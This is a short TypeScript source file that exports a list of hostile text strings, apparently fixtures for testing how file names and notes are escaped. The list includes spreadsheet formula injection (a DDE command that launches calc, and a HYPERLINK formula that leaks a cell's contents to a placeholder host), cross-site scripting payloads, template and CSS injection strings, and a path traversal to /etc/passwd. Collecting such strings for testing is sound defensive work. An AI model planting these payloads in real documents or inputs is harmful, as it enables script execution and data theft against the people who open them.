/** What names and notes of a file may hold to reach something other than the eye: formulas, markup, styles, paths, controls. */
export const HOSTILE_TEXTS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?"&A1,"II")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd',
  'II;=1+1',
  '<img src=x onerror=alert(1)>',
  '</title></style></script><script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'); alert(1); ('",
  '{@html "<img src=x>"}',
  '${alert(1)}',
  'url(http://example.invalid/x)"; } body { display: none',
  '../../../etc/passwd',
  'CON',
  'a,b"c',
];
